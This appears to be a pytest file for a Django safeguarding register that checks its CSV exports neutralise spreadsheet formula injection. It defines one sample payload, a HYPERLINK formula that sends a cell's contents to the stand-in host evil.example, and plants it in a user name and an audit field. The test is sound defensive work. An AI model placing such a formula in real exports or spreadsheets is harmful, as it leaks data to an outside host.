"""Every CSV export escapes spreadsheet formulas (OWASP CSV injection), through the one helper."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from audit.api import record
from audit.choices import Action
from config.csv import csv_cell, safe_writer
from risk.models import RegisterEntry
from tests.risk.test_services import concern

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ROOT = Path(__file__).resolve().parents[1]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_leading_formula_trigger_is_neutralised(lead):
    assert csv_cell(f"{lead}1+1") == f"'{lead}1+1"
    assert csv_cell("Plain") == "Plain" and csv_cell(None) == "" and csv_cell(3) == "3"


def test_the_writer_escapes_every_cell():
    out = io.StringIO()
    safe_writer(out).writerow([FORMULA, "ok", None])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == "'" + FORMULA


def test_no_export_writes_csv_but_through_the_one_helper():
    offenders = [str(path.relative_to(ROOT)) for path in ROOT.glob("*/**/*.py")
                 if ".venv" not in path.parts and "tests" not in path.parts and path != ROOT / "config" / "csv.py"
                 and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
    assert offenders == []


@pytest.mark.django_db
def test_a_formula_goes_through_every_export_as_text(world, client_for):
    made = concern(world, "teacher_lambeth", given="Csvcase",
                   indicators=("missing-from-home-or-care",), seriously_worried=True)
    lead = world.user("mash_lambeth")
    lead.first_name, lead.last_name = FORMULA, ""
    lead.save()
    RegisterEntry.objects.filter(subject=made.subject).update(lead_professional=lead)
    response = client_for("mash_lambeth").get(reverse("register-export"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows and rows[0]["lead professional"] == "'" + FORMULA

    record(Action.VIEW, actor=None, object_type="subject", reference=made.subject.reference, purpose=FORMULA)
    response = client_for("auditor").get(reverse("audit-export"), {"object_type": "subject"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert any(row.get("purpose") == "'" + FORMULA for row in rows)
    assert not any(value.startswith("=") for row in rows for value in row.values() if value)

    response = client_for("dpo").get(reverse("erasure-forecast-export"))
    assert response.status_code == 200
    for row in csv.reader(io.StringIO(response.content.decode())):
        assert not any(cell[:1] in "=+-@\t\r" and cell for cell in row)
